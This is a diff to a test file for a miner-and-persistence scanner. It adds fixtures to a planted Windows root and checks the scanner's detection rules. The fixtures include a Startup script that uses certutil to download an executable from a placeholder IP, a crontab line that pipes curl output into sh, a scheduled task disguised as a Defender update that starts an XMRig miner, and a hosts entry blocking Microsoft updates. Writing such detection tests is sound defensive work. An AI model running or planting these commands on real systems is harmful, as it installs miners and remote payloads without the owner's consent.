@@ -9,7 +9,9 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import path from 'node:path';
 import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
 import { startCli } from '../helpers/cli-process.js';
-import { plantWindowsRoot, utf16 } from '../helpers/windows-samples.js';
+import { peFile, plantWindowsRoot, utf16 } from '../helpers/windows-samples.js';
+import { XMRIG_STRINGS } from '../miners/elf-fixtures.js';
+
 
 const TASK = (command: string, args: string) =>
   utf16(`<?xml version="1.0" encoding="UTF-16"?>
@@ -34,6 +36,8 @@ describe('minescan scan of a Windows root', () => {
     await plantWindowsRoot(path.join(scratch, 'infected'), {
       'Windows/System32/Tasks/WindowsDefenderUpdate': TASK('C:\\ProgramData\\Defender\\MsMpEng.exe', '-o pool.supportxmr.com:443 --tls --donate-level 1'),
       'Windows/System32/drivers/etc/hosts': '127.0.0.1 wdcp.microsoft.com\r\n',
+      'ProgramData/Defender/MsMpEng.exe': peFile(XMRIG_STRINGS),
+      'Users/alice/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/sync.cmd': '@echo off\r\ncertutil -urlcache -split -f http://198.51.100.7/s.exe C:\\Users\\Public\\s.exe\r\n',
       // A Linux persistence file on a Windows volume: no Linux check may judge it.
       'etc/crontab': '* * * * * root curl -s http://198.51.100.1/x | sh\n',
     });
@@ -50,7 +54,12 @@ describe('minescan scan of a Windows root', () => {
     expect(report.roots).toEqual([{ platform: 'windows', evidence: '/Windows/System32/config/SYSTEM' }]);
     expect(report.status).toBe('complete');
     const rules = report.findings.map((f: { rule: string }) => f.rule);
-    expect(rules).toEqual(expect.arrayContaining(['command.miner', 'windows-task.system-user-writable', 'windows-task.hidden', 'windows-hosts.update-blocked']));
+    expect(rules).toEqual(
+      expect.arrayContaining(['command.miner', 'windows-task.system-user-writable', 'windows-task.hidden', 'windows-hosts.update-blocked', 'miner.xmrig-binary', 'windows-command.download-file']),
+    );
+    // The task that starts the miner is linked to it and raised, as a Linux unit is.
+    const task = report.findings.find((f: { rule: string }) => f.rule === 'command.miner');
+    expect(task.severity).toMatch(/high|critical/);
     expect(report.findings.some((f: { path: string }) => f.path === '/etc/crontab')).toBe(false);
     expect(report.blocklist.pools.map((p: { host: string }) => p.host)).toContain('pool.supportxmr.com');
     expect((await scan([path.join(scratch, 'infected'), '--format', 'json', '--fail-on', 'none'])).code).toBe(0);
